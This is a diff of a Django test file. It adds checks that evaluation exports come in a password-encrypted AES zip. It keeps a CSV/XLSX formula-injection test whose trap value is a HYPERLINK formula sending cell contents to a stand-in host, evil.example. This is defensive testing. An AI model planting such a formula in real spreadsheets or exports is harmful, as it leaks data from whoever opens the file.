@@ -1,12 +1,15 @@
 """The evaluation exports are read in spreadsheet programs: text a user typed (a round's name,
-a municipality's name) never becomes a formula there (issue 10, defect 6)."""
+a municipality's name) never becomes a formula there (issue 10, defect 6). They come in a zip
+encrypted with the password the user chose (docs/adr/0008)."""
 
 from __future__ import annotations
 
 import csv
 import io
+import zipfile
 
 import pytest
+import pyzipper
 from django.test import Client
 from django.urls import reverse
 from openpyxl import load_workbook
@@ -22,14 +25,41 @@ pytestmark = pytest.mark.django_db
 TRAP = '=HYPERLINK("http://evil.example/?leak="&A2,"open")'
 
 
-def _export(fmt: str) -> bytes:
+PASSWORD = "a long export password"
+
+
+def _encrypted_export(fmt: str) -> bytes:
+    """The zip of the evaluation export as ``fmt``, as downloaded from its download page."""
     proposal = arrived_proposal()
     Round.objects.filter(pk=proposal.run.round_id).update(name=TRAP)
     Organisation.objects.filter(pk=proposal.municipality_id).update(name="@SUM(1+1)")
     client = login_client(Client(), user("coordinator"))
-    response = client.get(reverse("relocation:evaluation_export", args=[fmt]))
-    assert response.status_code == 200
+    form = {"format": fmt, "password": PASSWORD, "password_again": PASSWORD}
+    page = client.post(reverse("relocation:evaluation_export"), form)
+    assert page.status_code == 302
+    response = client.get(page["Location"].rstrip("/") + "/download/")
+    assert response.status_code == 200 and response["Content-Type"] == "application/zip"
+    assert f"follow-up-surveys-{fmt}.zip" in response["Content-Disposition"]
     return response.content
+
+
+def _export(fmt: str) -> bytes:
+    with pyzipper.AESZipFile(io.BytesIO(_encrypted_export(fmt))) as archive:
+        archive.setpassword(PASSWORD.encode())
+        assert archive.namelist() == [f"follow-up-surveys.{fmt}"]
+        return archive.read(f"follow-up-surveys.{fmt}")
+
+
+@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
+def test_the_evaluation_export_cannot_be_read_without_the_password(fmt):
+    content = _encrypted_export(fmt)
+    name = f"follow-up-surveys.{fmt}"
+    with zipfile.ZipFile(io.BytesIO(content)) as plain, pytest.raises(RuntimeError):
+        plain.read(name)  # encrypted: the plain zip reader asks for a password
+    with pyzipper.AESZipFile(io.BytesIO(content)) as archive, pytest.raises(RuntimeError):
+        archive.setpassword(b"not the export password")
+        archive.read(name)
+    assert b"HYPERLINK" not in content and b"SUM(1+1)" not in content
 
 
 def test_evaluation_csv_neutralises_formulas():
